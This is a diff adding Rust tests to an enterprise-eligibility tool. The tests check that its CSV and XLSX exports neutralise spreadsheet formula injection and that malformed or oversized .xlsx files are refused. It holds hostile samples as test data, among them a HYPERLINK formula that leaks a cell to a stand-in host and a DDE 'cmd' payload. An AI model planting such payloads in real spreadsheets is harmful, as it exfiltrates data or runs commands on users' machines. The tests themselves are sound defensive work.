@@ -6,7 +6,7 @@
 
 use hitech_eligibility::engine::fact::{Audience, Fact};
 use hitech_eligibility::shell::batch::cell::{self, AgeValue, ChoiceValue, MoneyUnit, Problem};
-use hitech_eligibility::shell::batch::Batch;
+use hitech_eligibility::shell::batch::{export, Batch};
 use hitech_eligibility::shell::parts::number_value;
 use hitech_eligibility::{CivilDate, Profile};
 use serde_json::Value;
@@ -126,6 +126,15 @@ fn encodings_are_detected_and_can_be_overridden() {
     assert_eq!(forced["encoding"], "gb18030");
     assert_ne!(forced["headers"][0], "企业名称");
     assert!(refused(text.as_bytes(), "auto", "latin1").starts_with("encoding:"));
+    // A UTF-8 byte-order mark before a GBK body (a tool's mistake): read as
+    // GBK, the mark dropped, not every Chinese cell as U+FFFD.
+    let lying = [b"\xEF\xBB\xBF".as_slice(), &gbk].concat();
+    for (kind, encoding) in [("auto", "auto"), ("csv", "gb18030")] {
+        let described = describe(&Batch::read(&lying, kind, encoding).unwrap());
+        assert_eq!(described["encoding"], "gb18030");
+        assert_eq!(described["headers"][0], "企业名称");
+        assert_eq!(described["sample"][0][2], "重庆高新区");
+    }
 }
 
 #[test]
@@ -495,6 +504,323 @@ fn cells_with_commas_quotes_and_line_breaks_are_exported_as_read() {
     );
 }
 
+/// Cells a spreadsheet would run as formulas (OWASP's CSV injection), in
+/// the header, a mapped name, a mapped number and a kept column.
+const FORMULA_CELLS: [&str; 10] = [
+    "=HYPERLINK(\"http://x.test/?leak=\"&C2,\"点击\")",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+];
+
+#[test]
+fn the_csv_export_writes_formulas_as_text() {
+    let mut text = String::from("企业名称,营业收入（万元）,备注,\"=HYPERLINK(\"\"http://x.test\"\")\"\r\n");
+    for cell in FORMULA_CELLS {
+        let quoted = format!("\"{}\"", cell.replace('"', "\"\""));
+        text.push_str(&format!("{quoted},-5,{quoted},{quoted}\r\n"));
+    }
+    text.push_str("甲公司,200,'已有引号,a=b\r\n");
+    let mut batch = read(text.as_bytes());
+    batch.run(0, batch.rows(), AS_OF).unwrap();
+    let export = batch.export_csv();
+    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(&export[3..]);
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(&rows[0][3], "'=HYPERLINK(\"http://x.test\")", "a header too");
+    for (row, cell) in rows[1..].iter().zip(FORMULA_CELLS) {
+        for column in [0, 2, 3] {
+            assert_eq!(row[column], format!("'{cell}"), "column {column}");
+        }
+        assert_eq!(&row[1], "'-5", "a number as read is a cell as read");
+    }
+    let last = &rows[FORMULA_CELLS.len() + 1];
+    assert_eq!([&last[0], &last[1], &last[2], &last[3]], ["甲公司", "200", "'已有引号", "a=b"], "other cells as read");
+    for row in &rows {
+        for cell in row.iter().skip(4) {
+            assert!(!export::starts_a_formula(cell.as_bytes()), "{cell:?}");
+        }
+    }
+    assert_eq!(export::spreadsheet_safe("－1"), "'－1");
+    assert_eq!(export::spreadsheet_safe("1-2"), "1-2");
+}
+
+/// An .xlsx made by hand: the sheet's `<sheetData>` content and the shared
+/// strings' (`sst` the `<sst>` tag's attributes), as a hostile file has them.
+fn handmade_xlsx(sheet_data: &str, sst: &str, strings: &[&str]) -> Vec<u8> {
+    use std::io::Write;
+    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
+    let ns = "http://schemas.openxmlformats.org";
+    let mut sst_xml = format!(r#"<?xml version="1.0"?><sst xmlns="{ns}/spreadsheetml/2006/main" {sst}>"#);
+    for text in strings {
+        sst_xml.push_str(&format!("<si><t>{text}</t></si>"));
+    }
+    sst_xml.push_str("</sst>");
+    let parts = [
+        (
+            "[Content_Types].xml",
+            format!(
+                r#"<Types xmlns="{ns}/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>"#
+            ),
+        ),
+        (
+            "_rels/.rels",
+            format!(
+                r#"<Relationships xmlns="{ns}/package/2006/relationships"><Relationship Id="rId1" Type="{ns}/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#
+            ),
+        ),
+        (
+            "xl/workbook.xml",
+            format!(
+                r#"<workbook xmlns="{ns}/spreadsheetml/2006/main" xmlns:r="{ns}/officeDocument/2006/relationships"><sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>"#
+            ),
+        ),
+        (
+            "xl/_rels/workbook.xml.rels",
+            format!(
+                r#"<Relationships xmlns="{ns}/package/2006/relationships"><Relationship Id="rId1" Type="{ns}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="{ns}/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>"#
+            ),
+        ),
+        (
+            "xl/worksheets/sheet1.xml",
+            format!(
+                r#"<worksheet xmlns="{ns}/spreadsheetml/2006/main"><sheetData>{sheet_data}</sheetData></worksheet>"#
+            ),
+        ),
+        ("xl/sharedStrings.xml", sst_xml),
+    ];
+    for (name, content) in parts {
+        zip.start_file(name, options).unwrap();
+        zip.write_all(content.as_bytes()).unwrap();
+    }
+    zip.finish().unwrap().into_inner()
+}
+
+/// A header row (企业名称) and `rest`, inline strings.
+fn sheet_with(rest: &str) -> String {
+    format!(r#"<row r="1"><c r="A1" t="inlineStr"><is><t>企业名称</t></is></c></row>{rest}"#)
+}
+
+#[test]
+fn a_handmade_xlsx_within_the_limits_reads() {
+    let far = sheet_with(r#"<row r="2"><c r="A2" t="s"><v>0</v></c><c r="XFD2" t="s"><v>1</v></c></row>"#);
+    let batch = read(&handmade_xlsx(&far, r#"count="2" uniqueCount="2""#, &["甲公司", "备注"]));
+    assert_eq!(describe(&batch)["rows"], 1);
+    let last = sheet_with(r#"<row r="1048576"><c r="B1048576" t="inlineStr"><is><t>乙</t></is></c></row>"#);
+    let batch = read(&handmade_xlsx(&last, "", &[]));
+    assert_eq!(describe(&batch)["rows"], 1_048_575, "the last row a sheet holds, and the blank rows before it");
+}
+
+#[test]
+fn an_xlsx_over_a_limit_is_refused_saying_which() {
+    let one = sheet_with(r#"<row r="2"><c r="A2" t="s"><v>0</v></c></row>"#);
+    for (sst, said) in [
+        (r#"uniqueCount="4294967295""#, "say they are 4294967295 but hold at most 1"),
+        (r#"uniqueCount="18446744073709551615""#, "say they are 18446744073709551615"),
+        (r#"uniqueCount="999999999999999999999999999999999999999999999""#, "more than 2^64"),
+        (r#"count="1" uniqueCount = '1000000000'"#, "say they are 1000000000"),
+    ] {
+        let error = refused(&handmade_xlsx(&one, sst, &["甲公司"]), "auto", "auto");
+        assert!(error.contains(said), "{sst}: {error}");
+    }
+    let cases = [
+        (
+            sheet_with(r#"<row r="2"><c r="A1048577" t="inlineStr"><is><t>x</t></is></c></row>"#),
+            "row 1048577: more rows than a worksheet holds",
+        ),
+        (sheet_with(r#"<row r="2000000"><c t="inlineStr"><is><t>x</t></is></c></row>"#), "row 2000000: more rows"),
+        (
+            sheet_with(r#"<row r="2"><c r="XFE2" t="inlineStr"><is><t>x</t></is></c></row>"#),
+            "column 16385, more columns",
+        ),
+        (
+            sheet_with(&format!(
+                r#"<row r="2"><c r="C2" t="inlineStr"><is><t>{}</t></is></c></row>"#,
+                "长".repeat(32_768)
+            )),
+            "row 2, column 3: a cell longer than 32767",
+        ),
+        (
+            sheet_with(
+                &(2..2100)
+                    .map(|r| format!(r#"<row r="{r}"><c r="A{r}"><v>1</v></c><c r="XFD{r}"><v>1</v></c></row>"#))
+                    .collect::<String>(),
+            ),
+            "more than 33554432 cells",
+        ),
+        (sheet_with(&format!("<!--{}-->", " ".repeat(4 << 20))), "inflates to more than 100 times its compressed size"),
+    ];
+    for (sheet, said) in cases {
+        let error = refused(&handmade_xlsx(&sheet, "", &[]), "auto", "auto");
+        assert!(error.starts_with("the file is over a limit: ") && error.contains(said), "{said}: {error}");
+    }
+    let longest =
+        sheet_with(&format!(r#"<row r="2"><c r="A2" t="inlineStr"><is><t>{}</t></is></c></row>"#, "长".repeat(32_767)));
+    assert_eq!(describe(&read(&handmade_xlsx(&longest, "", &[])))["rows"], 1, "a cell of 32,767 characters is fine");
+}
+
+#[test]
+fn a_csv_cell_over_32767_characters_is_refused() {
+    let longest = format!("企业名称,备注\r\n甲公司,{}\r\n", "长".repeat(32_767));
+    assert_eq!(describe(&read(longest.as_bytes()))["rows"], 1);
+    let over = format!("企业名称,备注\r\n甲公司,{}\r\n", "长".repeat(32_768));
+    assert_eq!(
+        refused(over.as_bytes(), "auto", "auto"),
+        "the file is over a limit: row 2, column 2: a cell longer than 32767 characters (the most a spreadsheet cell holds)"
+    );
+}
+
+#[test]
+fn the_xlsx_export_is_well_formed_and_keeps_escape_like_text_for_any_cell() {
+    let odd = ["\u{FFFE}甲", "乙\u{FFFF}", "_x003D_1+1", "_x0041_", "_xfffe_", "a\u{1}b\u{1F}c", "_x005F_", "_x12_"];
+    let mut text = String::from("企业名称,备注_x0041_\r\n");
+    for cell in odd {
+        text.push_str(&format!("{cell},{cell}\r\n"));
+    }
+    let mut batch = read(text.as_bytes());
+    batch.run(0, batch.rows(), AS_OF).unwrap();
+    let exported = batch.export_xlsx().unwrap();
+    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(exported.as_slice())).unwrap();
+    for index in 0..archive.len() {
+        let mut part = String::new();
+        std::io::Read::read_to_string(&mut archive.by_index(index).unwrap(), &mut part).unwrap();
+        let illegal = part.chars().find(
+            |c| matches!(*c, '\u{0}'..='\u{8}' | '\u{B}' | '\u{C}' | '\u{E}'..='\u{1F}' | '\u{FFFE}' | '\u{FFFF}'),
+        );
+        assert_eq!(illegal, None, "XML 1.0 forbids it");
+    }
+    let back = hitech_eligibility::shell::batch::input::read_xlsx(&exported).unwrap();
+    assert_eq!(back.headers[1], "备注_x0041_");
+    for (row, cell) in back.rows.iter().zip(odd) {
+        assert_eq!(row.cells[..2], [cell, cell], "read back as written");
+    }
+}
+
+#[test]
+fn the_page_is_sent_previews_of_long_cells_and_the_export_whole_cells() {
+    let name = "名".repeat(32_767);
+    let note = "备".repeat(300);
+    let text = format!("企业名称,统一社会信用代码,备注\r\n{name},{note},{note}\r\n乙公司,91500000,短\r\n");
+    let mut batch = read(text.as_bytes());
+    let described = describe(&batch);
+    let preview = format!("{}…", "名".repeat(200));
+    assert_eq!(
+        described["sample"][0],
+        serde_json::json!([preview, format!("{}…", "备".repeat(200)), format!("{}…", "备".repeat(200))])
+    );
+    assert_eq!(described["sample"][1], serde_json::json!(["乙公司", "91500000", "短"]));
+    batch.run(0, 2, AS_OF).unwrap();
+    let rows = table(&batch, "", "");
+    let names: Vec<&str> = rows["rows"].as_array().unwrap().iter().map(|row| row["name"].as_str().unwrap()).collect();
+    assert!(names.contains(&preview.as_str()) && names.contains(&"乙公司"), "{names:?}");
+    let export = String::from_utf8(batch.export_csv()).unwrap();
+    assert!(export.contains(&format!("\r\n{name},{note},{note},")), "the export keeps the whole cells");
+}
+
+#[test]
+fn a_quoted_cell_never_closed_is_an_error_not_the_rest_of_the_file_as_one_cell() {
+    let open = "企业名称,备注\r\n甲公司,\"未闭合\r\n乙公司,是\r\n丙公司,是\r\n";
+    assert_eq!(
+        refused(open.as_bytes(), "auto", "auto"),
+        "a quoted cell opened on line 2 is never closed: the rest of the file would be read as one cell (a \" missing or one too many)"
+    );
+    // Quotes as spreadsheets write them, and stray ones inside a cell, are fine.
+    let fine = "企业名称,备注\r\n\"甲\"\"乙\"\"\",\"两\r\n行\"\r\n丙,5\"\r\n\"丁\"x,\"\"\r\n";
+    let batch = read(fine.as_bytes());
+    assert_eq!(describe(&batch)["rows"], 3);
+    assert_eq!(describe(&batch)["sample"][0], serde_json::json!(["甲\"乙\"", "两\r\n行"]));
+}
+
+#[test]
+fn the_page_reads_files_up_to_its_ceiling() {
+    use hitech_eligibility::shell::batch::limits::MAX_FILE_BYTES;
+    let mut bytes = b"a\r\n".repeat(usize::try_from(MAX_FILE_BYTES).unwrap() / 3 + 1);
+    bytes.truncate(usize::try_from(MAX_FILE_BYTES).unwrap() + 1);
+    assert_eq!(
+        refused(&bytes, "auto", "auto"),
+        format!("the file is over a limit: a file of {} bytes; the page reads files up to {MAX_FILE_BYTES} bytes (check --csv streams a CSV of any size)", MAX_FILE_BYTES + 1)
+    );
+    let limits: Value = json(&hitech_eligibility::shell::batch::limits::page_limits_json());
+    assert_eq!(limits["maxFileBytes"], MAX_FILE_BYTES);
+    assert_eq!(limits["maxCellChars"], 32_767);
+}
+
+#[test]
+fn the_page_maps_up_to_1024_columns() {
+    let row = |n: usize| (1..=n).map(|i| format!("列{i}")).collect::<Vec<_>>().join(",");
+    let widest = format!("企业名称,{}\r\n甲公司\r\n", row(1_023));
+    assert_eq!(describe(&read(widest.as_bytes()))["headers"].as_array().unwrap().len(), 1_024);
+    let wider = format!("企业名称,{}\r\n甲公司\r\n", row(20_000));
+    assert_eq!(
+        refused(wider.as_bytes(), "auto", "auto"),
+        "the file is over a limit: 20001 columns; the page maps up to 1024 (check --csv reads any number)"
+    );
+}
+
+#[test]
+fn the_csv_export_in_parts_is_the_whole_export() {
+    let mut batch = read(&fixture("enterprises-gbk.csv"));
+    batch.run(0, batch.rows(), AS_OF).unwrap();
+    let whole = batch.export_csv();
+    for size in [1, 7, batch.rows(), batch.rows() + 5] {
+        let mut joined = Vec::new();
+        let mut start = 0;
+        loop {
+            joined.extend(batch.export_csv_part(start, start + size));
+            start += size;
+            if start >= batch.rows() {
+                break;
+            }
+        }
+        assert!(joined == whole, "parts of {size} rows");
+    }
+    assert_eq!(batch.export_csv_part(batch.rows(), batch.rows() + 10), b"", "past the end: nothing");
+}
+
+#[test]
+fn a_zip_entry_that_cannot_be_inflated_refuses_the_file_only_if_it_is_read() {
+    use std::io::Write;
+    let with_extra = |name: &str| {
+        let good = handmade_xlsx(&sheet_with(r#"<row r="2"><c r="A2" t="s"><v>0</v></c></row>"#), "", &["甲公司"]);
+        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(good)).unwrap();
+        let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+        for index in 0..archive.len() {
+            let entry = archive.by_index_raw(index).unwrap();
+            if entry.name().unwrap() != name {
+                out.raw_copy_file(entry).unwrap();
+            }
+        }
+        let stored = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
+        out.start_file(name, stored).unwrap();
+        out.write_all(b"<marker-of-the-entry/>").unwrap();
+        let mut bytes = out.finish().unwrap().into_inner();
+        // Its compression method (local and central headers) becomes LZMA (14), which this build cannot inflate.
+        let name = name.as_bytes();
+        for signature in [&b"PK\x03\x04"[..], b"PK\x01\x02"] {
+            let at = (0..bytes.len() - name.len())
+                .find(|&i| {
+                    bytes[i..].starts_with(signature) && {
+                        let name_at = if signature == b"PK\x03\x04" { i + 30 } else { i + 46 };
+                        bytes.get(name_at..name_at + name.len()) == Some(name)
+                    }
+                })
+                .unwrap();
+            let method = if signature == b"PK\x03\x04" { at + 8 } else { at + 10 };
+            bytes[method] = 14;
+        }
+        bytes
+    };
+    assert_eq!(describe(&read(&with_extra("xl/media/unused.bin")))["rows"], 1, "not read, not a reason to refuse");
+    let error = refused(&with_extra("xl/worksheets/sheet1.xml"), "auto", "auto");
+    assert!(error.starts_with("the .xlsx file cannot be read"), "{error}");
+}
+
 mod hostile {
     use super::*;
     use proptest::prelude::*;
@@ -531,6 +857,102 @@ mod hostile {
                 let exported = batch.export_csv();
                 let back = read(&exported);
                 prop_assert!(back.rows() <= rows + 1);
+            }
+        }
+
+        /// A handmade .xlsx with cells anywhere (within and past the sheet's
+        /// edges), a shared-strings count that may lie and cells of any
+        /// length: read within the limits or refused, never a panic or a
+        /// huge allocation.
+        #[test]
+        fn any_handmade_xlsx_is_read_within_the_limits_or_refused(
+            cells in proptest::collection::vec((1u32..1_100_000, 0u32..17_000, 0usize..33_000, any::<bool>()), 0..6),
+            unique in prop_oneof![Just(None), (0u64..4).prop_map(Some), any::<u64>().prop_map(Some)],
+        ) {
+            let mut sheet = String::new();
+            for (row, column, length, shared) in &cells {
+                let mut name = String::new();
+                let mut index = *column as usize + 1;
+                while index > 0 {
+                    name.insert(0, char::from(b'A' + ((index - 1) % 26) as u8));
+                    index = (index - 1) / 26;
+                }
+                let value = if *shared { format!(r#"t="s"><v>{}</v>"#, length % 3) } else { format!(r#"t="inlineStr"><is><t>{}</t></is>"#, "x".repeat(*length)) };
+                sheet.push_str(&format!(r#"<row r="{row}"><c r="{name}{row}" {value}</c></row>"#));
+            }
+            let sst = unique.map_or(String::new(), |n| format!(r#"uniqueCount="{n}""#));
+            let bytes = handmade_xlsx(&sheet_with(&sheet), &sst, &["甲", "乙"]);
+            match hitech_eligibility::shell::batch::input::read_xlsx(&bytes) {
+                Ok(read) => {
+                    prop_assert!(read.rows.len() < 1_048_576);
+                    prop_assert!(read.rows.iter().all(|row| row.cells.len() <= 16_384 && row.cells.iter().all(|c| c.chars().count() <= 32_767)));
+                    prop_assert!(!matches!(unique, Some(n) if n > 2), "a count over the strings there are is refused");
+                }
+                Err(error) => {
+                    let text = error.to_string();
+                    prop_assert!(text.starts_with("the file is over a limit: ") || text.starts_with("the .xlsx file cannot be read"), "{}", text);
+                }
+            }
+        }
+
+        /// Small sheets of text, numbers and empty strings anywhere: the cell
+        /// reader gives the rows calamine's own (dense) range gave, as the
+        /// reader before the limits read them.
+        #[test]
+        fn the_cell_reader_reads_what_calamines_range_read(
+            cells in proptest::collection::vec((1u32..12, 0u32..6, 0u8..4), 1..25),
+        ) {
+            use calamine::Reader;
+            let mut sheet = String::new();
+            let mut rows: Vec<(u32, Vec<(u32, u8)>)> = Vec::new();
+            for (row, column, kind) in &cells {
+                match rows.iter_mut().find(|(r, _)| r == row) {
+                    Some((_, list)) => list.push((*column, *kind)),
+                    None => rows.push((*row, vec![(*column, *kind)])),
+                }
+            }
+            rows.sort_by_key(|(row, _)| *row);
+            for (row, list) in &mut rows {
+                list.sort_by_key(|(column, _)| *column);
+                list.dedup_by_key(|(column, _)| *column);
+                sheet.push_str(&format!(r#"<row r="{row}">"#));
+                for (column, kind) in list.iter() {
+                    let name = char::from(b'A' + *column as u8);
+                    sheet.push_str(&match kind {
+                        0 => format!(r#"<c r="{name}{row}" t="s"><v>0</v></c>"#),
+                        1 => format!(r#"<c r="{name}{row}" t="s"><v>1</v></c>"#),
+                        2 => format!(r#"<c r="{name}{row}"><v>{row}.5</v></c>"#),
+                        _ => format!(r#"<c r="{name}{row}"/>"#),
+                    });
+                }
+                sheet.push_str("</row>");
+            }
+            let bytes = handmade_xlsx(&sheet, "", &["", "企业名称"]);
+            let mut workbook: calamine::Xlsx<_> = calamine::Xlsx::new(std::io::Cursor::new(bytes.clone())).unwrap();
+            let range = workbook.worksheet_range_at(0).unwrap().unwrap();
+            let first = range.start().map_or(0, |(row, _)| row);
+            let trim = |cells: Vec<String>| {
+                let mut cells = cells;
+                while cells.last().is_some_and(String::is_empty) {
+                    cells.pop();
+                }
+                cells
+            };
+            let expected: Vec<(u64, Vec<String>)> = range
+                .rows()
+                .enumerate()
+                .map(|(i, cells)| (u64::from(first) + i as u64 + 1, trim(cells.iter().map(|c| c.to_string()).collect())))
+                .filter(|(_, cells)| cells.iter().any(|c| !c.trim().is_empty()))
+                .collect();
+            match hitech_eligibility::shell::batch::input::read_xlsx(&bytes) {
+                Ok(read) => {
+                    let mut got: Vec<(u64, Vec<String>)> = vec![(0, read.headers.clone())];
+                    got.extend(read.rows.iter().filter(|row| !row.is_blank()).map(|row| (row.number, trim(row.cells.clone()))));
+                    prop_assert_eq!(got.len(), expected.len());
+                    prop_assert_eq!(trim(got[0].1.clone()), trim(expected[0].1.iter().map(|c| c.trim().to_owned()).collect()));
+                    prop_assert_eq!(&got[1..], &expected[1..]);
+                }
+                Err(error) => prop_assert!(expected.is_empty(), "{}", error),
             }
         }
 
@@ -887,4 +1309,22 @@ fn the_whole_table_for_people_has_the_pages_words_and_only_the_measures_asked() 
     assert!(xlsx.starts_with(b"PK\x03\x04"));
     let unknown = r#"{"codeCheck": "", "error": "", "resultSuffix": "", "missingSuffix": "", "measures": [["nope", "x"]], "statuses": {}}"#;
     assert!(batch.export_readable(unknown, "csv").unwrap_err().to_string().starts_with("measure:"));
+}
+
+#[test]
+fn a_notification_list_writes_a_registry_name_that_would_start_a_formula_as_text() {
+    let registry = "企业名称,所在高新区,是否高新技术企业,是否规上,是否在科创板上市,联系电话\r\n\
+                    \"=HYPERLINK(\"\"http://x.test/?\"\"&A2)\",重庆高新区,是,是,是,+8613800000000\r\n";
+    let mut batch = read(registry.as_bytes());
+    batch.run(0, usize::MAX, TRIAL_AS_OF).unwrap();
+    let csv_bytes = batch.export_notification("chongqing.star-listing-award", NOTIFY_WORDS_ZH, "csv").unwrap();
+    let text = String::from_utf8(csv_bytes).unwrap();
+    assert!(text.contains("'=HYPERLINK("), "{text}");
+    assert!(text.contains("'+8613800000000"), "{text}");
+    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
+    for record in reader.records() {
+        for cell in record.unwrap().iter() {
+            assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell:?}");
+        }
+    }
 }
